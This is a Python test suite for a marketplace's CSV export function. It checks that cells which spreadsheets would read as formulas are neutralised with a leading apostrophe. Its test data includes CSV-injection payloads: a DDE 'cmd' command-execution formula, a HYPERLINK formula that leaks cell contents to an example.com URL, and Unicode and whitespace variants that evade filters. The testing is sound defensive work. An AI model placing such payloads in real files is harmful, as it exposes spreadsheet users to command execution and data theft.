"""RELIABILITY B46: no cell of an exported file is a formula, in whatever spreadsheet and however it splits the file."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from marketplace.core.csv_export import safe_cell, stream_csv

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    " =1+1",
    "   +1+1",
    "\u00a0-1+1",
    "\ufeff=1+1",
    "\u200b\u2060@x",
    '"=1+1',
    ";=1+1",
    "x;=1+1",
    "x; +1+1",
    'x;"=1+1"',
    "x\n=1+1",
    "x\r\n@SUM(1)",
    "x\t=1+1",
    '=HYPERLINK("https://example.com/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+16145550142",
    "-",
]


def read(response, **dialect):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), **dialect))


def test_it_works():
    response = stream_csv("leads.csv", ["name", "price"], [["Ada, Ltd", Decimal("24.50")], ["Zoë", None]])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="leads.csv"'
    assert response["Cache-Control"] == "no-store"
    body = b"".join(response.streaming_content)
    assert body == 'name,price\r\n"Ada, Ltd",24.50\r\nZoë,\r\n'.encode("utf-8-sig")


def test_rows_are_read_one_by_one():
    asked_for = []

    def rows():
        for number in range(3):
            asked_for.append(number)
            yield [number]

    lines = stream_csv("x.csv", ["n"], rows()).streaming_content
    next(lines)
    assert asked_for == []
    next(lines)
    assert asked_for == [0]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_starts_with_an_apostrophe(text):
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (0, "0"),
        (-4, "-4"),
        (Decimal("-4.00"), "-4.00"),
        (1.5, "1.5"),
        ("-4.00", "-4.00"),
        ("24.50", "24.50"),
        ("007", "007"),
        (None, ""),
        ("", ""),
        ("O'Neil", "O'Neil"),
        ("a=b", "a=b"),
        ("Tuesday; he said 5", "Tuesday; he said 5"),
        ("line one\nline two", "line one\nline two"),
        ("(614) 555-0142", "(614) 555-0142"),
        ("person@example.org", "person@example.org"),
        (datetime(2026, 11, 21, 9, 40, tzinfo=UTC), "2026-11-21 09:40:00+00:00"),
    ],
)
def test_everything_else_is_written_as_it_is(value, written):
    assert safe_cell(value) == written


def test_digits_of_other_scripts_with_a_sign_are_no_number():
    assert safe_cell("-١٢") == "'-١٢"


STARTS = tuple("=+-@＝＋－＠\t\r")
PIECES = st.lists(
    st.sampled_from(["=", "+", "-", "@", "＝", ";", "\t", "\r", "\n", " ", '"', "'", ",", "\ufeff", "x", "1"])
)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@given(pieces=PIECES)
@example(pieces=list('x;"=1'))
@example(pieces=["\t", "=", "1"])
def test_no_way_of_splitting_the_file_yields_a_formula(delimiter, pieces):
    text = "".join(pieces)
    if text.lstrip("-").isdigit():
        return  # a number, meant to stay one
    written = read(stream_csv("x.csv", ["note"], [[text]]), delimiter=delimiter)[1:]
    for row in written:
        for cell in row:
            assert not cell.strip(' "\ufeff').startswith(STARTS[:8]), (text, written)


def test_a_long_cell_is_guarded_in_linear_time():
    text = "x" + "\n; \t" * 200_000 + "=1"
    assert safe_cell(text).endswith("'=1")
